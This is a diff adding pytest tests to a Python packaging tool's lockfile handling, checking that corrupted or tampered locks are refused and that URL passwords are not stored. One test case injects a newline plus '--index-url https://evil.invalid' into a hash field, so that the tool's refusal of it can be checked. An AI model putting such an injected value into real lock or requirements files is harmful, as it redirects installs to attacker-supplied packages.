@@ -1,6 +1,7 @@
 """A lock: what a matrix is built from stays, is asked for no more, and what does not hold is refused by its name."""
 
 import hashlib
+import os
 import shutil
 import subprocess
 import sys
@@ -189,6 +190,11 @@ def test_what_an_index_took_back_or_replaced_is_refused_by_name(factory, index):
         'version = 1\n[[environments]]\nname = "../../x"\n',
         'version = 1\n[[environments]]\nname = "gone"\nrequirements = []\nrather = []\npython = "3.12"\narch = "x"\n',
         "a = " + "[" * 100_000,
+        "version" + ".a" * 5000 + " = 1",
+        "a" + ".a" * 50_000 + " = 1",
+        "version = true\npins = {}\n",
+        'version = 1\n[source]\nkernel = "git:repo"\ncommit = "HEAD"\ntree = "x"\n',
+        'version = 1\n[[environments]]\nname = "a"\n[[environments]]\nname = "a"\n',
     ],
 )
 def test_a_lock_that_cannot_be_read_is_one_message(factory, kernel, text):
@@ -206,7 +212,7 @@ def test_a_lock_in_the_kernels_own_folder_is_no_source(factory):
     (factory.folder / "wheelsmith.lock.d").mkdir()
     (factory.folder / "wheelsmith.lock.d" / "pylock.x.toml").touch()
     assert factory.run("plan", "--engine", "local", "--json").stdout == before
-    assert read(factory) == {"version": 1, "pins": {}, "environments": []}
+    assert read(factory) == {"version": 1, "cells": ["torch213-cxx11-cpu-x86_64-linux"], "pins": {}, "environments": []}
 
 
 def test_an_archive_that_was_replaced_is_refused(factory):
@@ -240,3 +246,63 @@ def pack(folder, path):
 
 def sha256(path):
     return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ('sha256 = "', 'sha256 = "x\\n--index-url https://evil.invalid\\n'),
+        ('sha256 = "', 'sha256 = "0'),
+        ('name = "helper"', 'name = "another"'),
+        ('name = "torch"', 'name = "helper"'),
+    ],
+)
+def test_an_environment_that_was_tampered_with_is_not_read(factory, index, old, new):
+    """What stands there becomes part of what pip is told."""
+    found = index.write()
+    assert factory.run("lock", "--engine", "local", **found).returncode == 0
+    (path,) = (factory.folder / "wheelsmith.lock.d").iterdir()
+    assert old in path.read_text()
+    path.write_text(path.read_text().replace(old, new, 1))
+    for more in ((), ("--locked",)):
+        answer = factory.run("plan", "--engine", "local", *more, **found)
+        assert answer.returncode == 2
+        assert answer.stderr.startswith("error: wheelsmith.lock: it cannot be read: ")
+
+
+def test_what_is_no_file_is_not_waited_for(factory, kernel):
+    os.mkfifo(factory.folder / "wheelsmith.lock")
+    answer = factory.run("plan", "--engine", "local")
+    assert answer.returncode == 2
+    assert "wheelsmith.lock: it cannot be read" in answer.stderr
+
+
+def test_another_kernel_or_another_cell_is_not_what_was_locked(factory, kernel):
+    assert factory.run("lock", "--engine", "local").returncode == 0
+    path = factory.folder / "matrix.yaml"
+    text = path.read_text()
+    path.write_text(text.replace("[2.13]", "[2.13, 2.12]"))
+    more = factory.run("plan", "--engine", "local", "--locked")
+    assert (more.returncode, "torch212-cxx11-cpu-x86_64-linux is not in it" in more.stderr) == (2, True)
+    path.write_text(text.replace("{git: repo, revision: main}", "{path: repo}"))
+    other = factory.run("plan", "--engine", "local", "--locked")
+    assert (other.returncode, "it is of git:repo, and the matrix of a folder" in other.stderr) == (2, True)
+
+
+def test_an_index_that_cannot_be_asked_costs_nothing_that_is_locked(factory, index):
+    found = index.write()
+    assert factory.run("lock", "--engine", "local", **found).returncode == 0
+    before = {path: path.read_bytes() for path in factory.folder.rglob("*lock*") if path.is_file()}
+    answer = factory.run("lock", "--engine", "local", "--upgrade", **{**found, "PIP_INDEX_URL": "file:///nowhere"})
+    assert answer.returncode == 2
+    assert "was locked and cannot be planned now: " in answer.stderr
+    assert {path: path.read_bytes() for path in before} == before
+
+
+def test_nobodys_password_is_locked(factory, kernel):
+    repo = f"file://user:SECRET@localhost{kernel}"
+    path = factory.folder / "matrix.yaml"
+    path.write_text(path.read_text().replace("git: repo", f'git: "{repo}"'))
+    assert factory.run("lock", "--engine", "local").returncode == 0
+    assert "SECRET" not in (factory.folder / "wheelsmith.lock").read_text()
+    assert factory.run("plan", "--engine", "local", "--locked").returncode == 0
